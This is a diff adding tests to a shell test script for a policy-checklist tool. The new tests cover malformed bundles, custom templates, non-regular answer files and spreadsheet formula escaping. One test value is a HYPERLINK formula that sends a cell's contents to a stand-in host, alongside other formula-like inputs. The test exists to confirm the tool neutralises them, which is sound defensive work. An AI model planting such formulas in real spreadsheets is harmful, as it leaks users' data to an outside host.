@@ -7,7 +7,10 @@
 # 0 and 100.0%; one must-check いいえ: exit 1 and the rule's number named; a blank
 # must-check: exit 1), and every malformed answers file tests/answers/NAME.csv exits 2
 # with exactly the diagnostics in tests/answers/NAME.stderr. Bundles of another format
-# are refused.
+# or version, or with malformed checks, are refused (tests/answers/bundle-*.stderr).
+# Cells that a spreadsheet would run as formulas are written with ' in front and read
+# back without it; answers that are a directory or a FIFO are refused without blocking;
+# --templates DIR reaches both pages.
 #
 # Run from the repository root with POLC and BUILD set, as tests/run.sh does.
 set -u
@@ -96,26 +99,65 @@ printf '{"format": ' >"$T/trunc.json"
 run "checklist of invalid JSON exits 2" 2 "$T/out" "$T/err" checklist "$T/trunc.json"
 check "  ... with the file, line and column" grep -q "^$T/trunc.json:1:[0-9]*: error: " "$T/err"
 
-# Bundles of another format: refused by both commands, with the expected message.
-python3 - "$T/real.json" "$T" <<'PY'
-import json, sys
+# Bundles of another format or version, and malformed checks (a check dropped would
+# leave the assessment's scope unseen): refused by both commands, each with the
+# expected message naming the bundle and the check.
+python3 - "$T/real.json" "$T/small.json" "$T" <<'PY'
+import copy, json, sys
 b = json.load(open(sys.argv[1], encoding="utf-8"))
+def w(name, b):
+    json.dump(b, open(sys.argv[3] + "/" + name + ".json", "w", encoding="utf-8"), ensure_ascii=False)
 b["format"]["version"] = "2.0"
-json.dump(b, open(sys.argv[2] + "/bundle-v2.json", "w", encoding="utf-8"), ensure_ascii=False)
+w("bundle-v2", b)
 b["format"] = {"name": "other-tool", "version": "1.0"}
-json.dump(b, open(sys.argv[2] + "/bundle-other.json", "w", encoding="utf-8"), ensure_ascii=False)
+w("bundle-other", b)
+small = json.load(open(sys.argv[2], encoding="utf-8"))
+for name, v in [("bundle-v1.0x", "1.0x"), ("bundle-v1.9999", "1.9999"), ("bundle-v-number", 1.0)]:
+    b = copy.deepcopy(small)
+    b["format"]["version"] = v
+    w(name, b)
+b = copy.deepcopy(small)
+b["rules"][0]["checks"][1] = None
+w("bundle-null-check", b)
+b = copy.deepcopy(small)
+b["rules"][0]["checks"][0]["id"] = 7
+w("bundle-numeric-id", b)
+b = copy.deepcopy(small)
+b["rules"][2]["checks"][0]["id"] = b["rules"][0]["checks"][0]["id"]
+w("bundle-duplicate-id", b)
+b = copy.deepcopy(small)
+b["rules"][1]["checks"] = "none"
+b["rules"][3] = 5
+w("bundle-bad-rules", b)
 PY
-for case in bundle-v2 bundle-other; do
+for case in bundle-v2 bundle-other bundle-v1.0x bundle-v1.9999 bundle-v-number bundle-null-check \
+	bundle-numeric-id bundle-duplicate-id bundle-bad-rules; do
 	for cmd in checklist assess; do
 		_rc=0
 		(cd "$T" && if [ $cmd = assess ]; then $POLC assess $case.json cl.csv; else $POLC checklist $case.json; fi) \
 			>"$T/out" 2>"$T/err" || _rc=$?
-		if [ "$_rc" = 2 ] && cmp -s "tests/answers/$case.stderr" "$T/err"; then ok "$cmd refuses $case.json"; else
+		if [ "$_rc" = 2 ] && cmp -s "tests/answers/$case.stderr" "$T/err" && [ ! -s "$T/out" ]; then
+			ok "$cmd refuses $case.json"
+		else
 			not_ok "$cmd refuses $case.json (exit $_rc)"
 			diff "tests/answers/$case.stderr" "$T/err" | sed 's/^/    /'
 		fi
 	done
 done
+
+# ---- templates -------------------------------------------------------------------------
+
+mkdir "$T/tmpl" "$T/tmpl-bad"
+printf 'checks={{count}} first={{#rows}}{{id}};{{/rows}}\n' >"$T/tmpl/checklist.html.mustache"
+printf 'result={{#pass}}pass{{/pass}}{{^pass}}fail{{/pass}} {{#summary}}{{> assess-tally-row.mustache}}{{/summary}}' \
+	>"$T/tmpl/assess.html.mustache"
+printf '{{#rows}}\n' >"$T/tmpl-bad/checklist.html.mustache"
+run "checklist --templates DIR renders the page from DIR" 0 "$T/out" "$T/err" \
+	checklist "$T/small.json" --format html --templates "$T/tmpl"
+check "  ... with the checklist's data" grep -q '^checks=5 first=standards.room-log;standards.room-card;' "$T/out"
+run "checklist --templates with a malformed template exits 2" 2 "$T/out" "$T/err" \
+	checklist "$T/small.json" --format html --templates "$T/tmpl-bad"
+check "  ... naming the template" grep -q '^polc: error: checklist.html.mustache: line 1: ' "$T/err"
 
 # ---- the round trip --------------------------------------------------------------------
 
@@ -192,6 +234,81 @@ run "assess: a role checklist against the whole policy leaves checks unanswered 
 	assess "$T/real.json" "$T/contractor.csv"
 run "assess: usage error exits 2" 2 "$T/out" "$T/err" assess "$T/real.json"
 run "assess: missing answers file exits 2" 2 "$T/out" "$T/err" assess "$T/real.json" "$T/none.csv"
+
+run "assess --templates DIR writes report.html from DIR" 0 "$T/out" "$T/err" \
+	assess "$T/real.json" "$T/yes.csv" -o "$T/report-tmpl" --templates "$T/tmpl"
+check "  ... with the report's data (and the built-in partial)" \
+	grep -q '^result=pass <tr><th scope="row">全体</th><td class="n">100.0%</td>' "$T/report-tmpl/report.html"
+
+# ---- cells a spreadsheet would run as formulas -------------------------------------------
+
+# A bundle whose texts start with = + - @ TAB and CR: the checklist writes each with ' in
+# front (and nothing else changed), and assess reads answers saved back that way.
+python3 - "$T/small.json" "$T/formula.json" <<'PY'
+import json, sys
+b = json.load(open(sys.argv[1], encoding="utf-8"))
+checks = [c for r in b["rules"] for c in r["checks"]]
+checks[0]["question"] = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+checks[0]["evidence"] = "+1+2"
+checks[1]["question"] = "-2+3"
+checks[1]["evidence"] = "@SUM(A1:A2)"
+checks[2]["question"] = "\t=1"
+checks[2]["evidence"] = "\r=1"
+checks[3]["question"] = "'quoted' は通常の文字列"
+json.dump(b, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False)
+PY
+run "checklist of a bundle with formula-like texts" 0 "$T/formula.csv" "$T/err" checklist "$T/formula.json"
+check "  ... writes each formula-like cell with ' in front, other cells as they are" python3 - "$T/formula.csv" "$T/formula.json" <<'PY'
+import csv, json, sys
+rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))[1:]
+b = json.load(open(sys.argv[2], encoding="utf-8"))
+checks = [c for r in b["rules"] for c in r["checks"]]
+assert len(rows) == len(checks)
+for row, c in zip(rows, checks):
+    for cell, text in [(row[3], c["question"]), (row[6], c["evidence"] or "")]:
+        want = "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+        assert cell == want, (cell, want)
+assert rows[0][3].startswith("'=HYPERLINK(") and rows[3][3] == "'quoted' は通常の文字列"
+PY
+python3 - "$T/formula.csv" "$T/formula-ans.csv" <<'PY'
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
+for row in rows[1:]:
+    row[7] = "はい"
+rows[1][7], rows[1][8] = "いいえ", "'=1+1"
+rows[2][8] = "'-"
+rows[3][8] = "'plain"
+with open(sys.argv[2], "w", encoding="utf-8-sig", newline="") as f:
+    csv.writer(f, lineterminator="\r\n").writerows(rows)
+PY
+run "assess reads back answers to that checklist (one いいえ: exit 1)" 1 "$T/out" "$T/err" \
+	assess "$T/formula.json" "$T/formula-ans.csv" -o "$T/report-formula"
+check "  ... taking off the ' before a formula-like note, and only there" python3 - "$T/report-formula/report.json" <<'PY'
+import json, sys
+r = json.load(open(sys.argv[1], encoding="utf-8"))
+notes = {c["id"]: c["note"] for c in r["checks"]}
+assert notes["standards.room-log"] == "=1+1", notes
+assert notes["standards.room-card"] == "-" and notes["standards.clear-desk.c1"] == "'plain", notes
+assert [x["id"] for x in r["failed_must_rules"]] == ["standards.room"]
+PY
+
+# ---- answers that are not a regular file ---------------------------------------------------
+
+mkdir "$T/folder.csv"
+run "assess of a directory exits 2" 2 "$T/out" "$T/err" assess "$T/small.json" "$T/folder.csv"
+check "  ... and says it is a directory" grep -q "^$T/folder.csv: error: cannot read: it is a directory" "$T/err"
+if mkfifo "$T/fifo.csv" 2>/dev/null; then
+	_rc=0
+	timeout 20 $POLC assess "$T/small.json" "$T/fifo.csv" >"$T/out" 2>"$T/err" || _rc=$?
+	if [ "$_rc" = 2 ] && grep -q "^$T/fifo.csv: error: cannot read: not a regular file" "$T/err"; then
+		ok "assess of a FIFO exits 2 at once (not a regular file)"
+	else
+		not_ok "assess of a FIFO exits 2 at once (exit $_rc; 124 is a timeout)"
+		sed 's/^/    /' "$T/err"
+	fi
+else
+	ok "# skip assess of a FIFO: mkfifo is not available"
+fi
 
 # ---- malformed answers: exact diagnostics -----------------------------------------------
 
